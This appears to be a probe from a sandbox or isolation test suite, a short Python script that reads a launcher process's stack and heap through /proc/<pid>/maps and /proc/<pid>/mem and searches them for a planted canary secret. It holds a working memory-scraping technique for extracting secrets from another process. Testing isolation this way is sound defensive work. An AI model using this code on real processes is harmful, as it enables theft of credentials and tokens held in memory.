# ---
# id = "canary-env-memory"
# title = "Searches the memory of the launcher for the secret"
# clause = "canary"
# engine = "python"
# expects = ["leak"]
# destructive = false
# ---
# mypy: ignore-errors
import contextlib
import json
import re

with open("probe.json") as f:
    P = json.load(f)

found = set()
with contextlib.suppress(OSError):
    with open(f"/proc/{P['launcher']}/maps") as f:
        wanted = [line for line in f if "[stack]" in line or "[heap]" in line]
    with open(f"/proc/{P['launcher']}/mem", "rb", buffering=0) as memory:
        for line in wanted:
            first, last = (int(place, 16) for place in line.split()[0].split("-"))
            memory.seek(first)
            found.update(
                re.findall(P["secret_mark"].encode() + rb"[!-~]{8,80}", memory.read(last - first))
            )
print(found)
